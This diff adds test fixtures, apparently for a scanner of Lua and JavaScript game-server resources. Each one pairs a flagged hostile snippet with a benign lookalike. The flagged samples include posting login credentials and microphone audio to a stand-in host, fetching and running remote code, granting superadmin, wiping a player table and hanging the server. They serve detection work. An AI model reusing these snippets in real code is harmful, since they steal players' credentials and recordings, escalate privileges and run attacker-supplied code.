@@ -75,4 +75,42 @@ export const dataFixtures: Fixture[] = [
     `^require('fs').rmSync(GetResourcePath('garage'))`,
     `require('fs').rmSync('cache.json')`,
   ),
+  lua(
+    'grants-rights',
+    `^MySQL.update('UPDATE users SET \`group\` = ? WHERE identifier = ?', { 'superadmin', id })`,
+    `MySQL.update('UPDATE users SET \`group\` = ? WHERE identifier = ?', { 'user', id })`,
+  ),
+  lua(
+    'deletes-data',
+    `^MySQL.query('DELETE FROM players')`,
+    `MySQL.query('DELETE FROM players WHERE last_seen < ?', { time })`,
+  ),
+  lua('stops-server', `if isLate then\n^ while true do end\nend`, `while true do Wait(0) end`),
+  js('stops-server', `^for (;;) {}`, `for (;;) { if (isDone()) break }`),
+  lua('process', `^package.loadlib(path, 'open')`, `package.path = path`),
+  js('process', `^process.dlopen(module, path)`, `process.emit('done', path)`),
+  lua(
+    'sends-data',
+    `RegisterNetEvent('login', function(user, pass)\n^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))\nend)`,
+    `RegisterNetEvent('login', function(user, time)\n  PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, time }))\nend)`,
+  ),
+  js(
+    'sends-data',
+    `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {\n  const recorder = new MediaRecorder(stream)\n^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })\n})`,
+    `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => play(stream))\nfetch('https://a.example', { body: name })`,
+    'page',
+  ),
+  js('remote-page', `^window.location.href = 'https://a.example'`, `link.href = 'https://a.example'`, 'page'),
+  js('remote-page', `^location.replace('https://a.example')`, `location.replace('menu.html')`, 'page'),
+  js(
+    'runs-downloaded-code',
+    `const text = "importScripts('https://a.example/a.js')"\n^new Worker(URL.createObjectURL(new Blob([text])))`,
+    `const text = "importScripts('a.js')"\nnew Worker(URL.createObjectURL(new Blob([text])))`,
+    'page',
+  ),
+  js(
+    'runs-downloaded-code',
+    `const make = Reflect.getPrototypeOf(async () => 0).constructor\n^fetch(url).then((r) => r.text()).then((text) => Reflect.construct(make, ['require', text]))`,
+    `fetch(url).then((r) => r.text()).then((text) => Reflect.construct(Map, [['text', text]]))`,
+  ),
 ]
